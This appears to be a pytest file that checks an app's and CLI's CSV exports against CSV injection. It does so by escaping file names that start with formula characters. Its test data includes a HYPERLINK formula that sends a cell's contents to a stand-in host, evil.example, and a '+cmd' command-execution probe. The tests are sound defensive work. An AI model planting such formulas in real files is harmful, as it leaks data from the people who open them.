"""CSV injection: file names that a spreadsheet would run as formulas, through every CSV the app and the CLI write.

Each export is written, parsed back with ``csv.reader`` and checked: every cell that came from a name starting
with ``= + - @``, a tab or a carriage return starts with a single quote (the OWASP rule), numbers stay numbers.
"""

from __future__ import annotations

import contextlib
import csv
import io
import shutil
from pathlib import Path

import pytest
import torch

from softpatch.io.csvsafe import FORMULA_PREFIXES, safe_cell, write_csv
from softpatch.io.datasets import ImageRecord
from softpatch_app import exports
from tests.conftest import SyntheticSet

# One hostile name per dangerous first character; a file name cannot hold "\r" or "\t" on every system, but an
# archive or a browser upload can.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"x").png',
    "+": "+cmd@calc.png",
    "-": "-2+3.png",
    "@": "@SUM(1+1).png",
    "\t": "\t=1+1.png",
    "\r": "\r=1+1.png",
}


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_each_dangerous_prefix_is_neutralised() -> None:
    assert set(HOSTILE) == set(FORMULA_PREFIXES)
    for name in HOSTILE.values():
        assert safe_cell(name) == "'" + name
    assert safe_cell(Path("=x.png")) == "'=x.png", "any non-number is treated as text"
    assert [safe_cell(v) for v in ("a.png", "/x/=a.png", "", None)] == ["a.png", "/x/=a.png", "", ""]
    assert [safe_cell(v) for v in (-0.5, 3, 2.0)] == [-0.5, 3, 2.0], "numbers we computed stay numbers"


def test_write_csv_round_trip() -> None:
    buf = io.StringIO()
    write_csv(buf, [{"name": n, "score": -1.5} for n in HOSTILE.values()], ["name", "score"])
    text = buf.getvalue()
    rows = parse(text)
    assert rows[0] == ["name", "score"]
    # A line break inside a name is quoted, so it cannot start a row (whose first cell would escape the check).
    assert len(rows) == 1 + len(HOSTILE) and text.count("\r\n") == 1 + len(HOSTILE)
    assert [r[0] for r in rows[1:]] == ["'" + n for n in HOSTILE.values()]
    assert all(float(r[1]) == -1.5 for r in rows[1:])


def test_labels_csv_neutralises_names_and_paths() -> None:
    rows = [
        {
            "rank": i + 1,
            "image": f"train/{name}" if prefix == "=" else name,
            "path": name,
            "suspicion": -0.25,
            "removed_share": 0.1,
            "label": "good",
        }
        for i, (prefix, name) in enumerate(HOSTILE.items())
    ]
    parsed = parse(exports.labels_csv(rows))
    assert parsed[0] == ["rank", "image", "path", "suspicion", "removed_share", "label"]
    body = parsed[1:]
    assert len(body) == len(HOSTILE)
    for row, name in zip(body, HOSTILE.values(), strict=True):
        assert row[2] == "'" + name
        assert not row[1].startswith(FORMULA_PREFIXES) and not row[2].startswith(FORMULA_PREFIXES)
        assert row[0].isdigit() and float(row[3]) == -0.25
    assert body[0][1] == 'train/=HYPERLINK("http://evil.example/?"&A1,"x").png', "a name not at the start is left as is"


def test_cleaned_list_csv_neutralises_names_paths_and_labels(tmp_path: Path) -> None:
    records = [ImageRecord(path=Path(name), relpath=name) for name in HOSTILE.values()]
    labels = {records[0].name: "good", records[1].name: "defective"}
    parsed = parse(exports.cleaned_list_csv(records, labels))
    assert parsed[0] == ["image", "path", "label"]
    body = parsed[1:]
    kept = [n for n in HOSTILE.values() if n != records[1].name]
    assert [r[0] for r in body] == ["'" + n for n in kept]
    assert [r[1] for r in body] == ["'" + str(Path(n)) for n in kept]
    assert body[0][2] == "good"


def test_vet_csv_neutralises_file_names(
    tmp_path: Path, synthetic_set: SyntheticSet, monkeypatch: pytest.MonkeyPatch
) -> None:
    from softpatch.cli import main
    from softpatch.method.model import VettingReport

    train = tmp_path / "train"
    train.mkdir()
    sources = sorted(synthetic_set.train_dir.glob("*.png"))
    names = ["=1+2.png", "+cmd@calc.png", "-2+3.png", "@SUM(1+1).png"]  # file names a folder can hold
    for i, src in enumerate(sources):
        shutil.copy(src, train / (names[i] if i < len(names) else src.name))
    # The report names images by absolute path today, which starts with "/"; the CSV must stay safe whatever
    # names it is given, so the test also runs with the names made relative (the file name alone).
    original = VettingReport.rows
    monkeypatch.setattr(
        VettingReport, "rows", lambda self: [{**r, "path": Path(str(r["path"])).name} for r in original(self)]
    )
    out = tmp_path / "vet.csv"
    torch.manual_seed(0)
    small = ["--backbone", "resnet18", "--no-pretrained", "--resize", "72", "--crop", "64", "--device", "cpu"]
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()) as err:
        code = main(["--quiet", "vet", str(train), "--csv", str(out), *small])
    assert code == 0, err.getvalue()
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["rank", "path", "suspicion", "removed_fraction"]
    paths = [r[1] for r in rows[1:]]
    assert sorted(paths) == sorted(["'" + n for n in names] + [p.name for p in sources[len(names) :]])
    assert all(0.0 <= float(r[3]) <= 1.0 for r in rows[1:]) and all(r[0].isdigit() for r in rows[1:])


def test_no_csv_writer_bypasses_the_helper() -> None:
    """Every module that writes CSV goes through softpatch.io.csvsafe (a new writer would have to be added here)."""
    repo = Path(__file__).resolve().parent.parent
    writers = []
    for path in [*repo.glob("softpatch/**/*.py"), *repo.glob("softpatch_app/**/*.py"), *repo.glob("pages/*.py")]:
        text = path.read_text(encoding="utf-8")
        if "csv.writer" in text or "csv.DictWriter" in text or ".to_csv(" in text:
            writers.append(path.relative_to(repo).as_posix())
    assert writers == ["softpatch/io/csvsafe.py"]
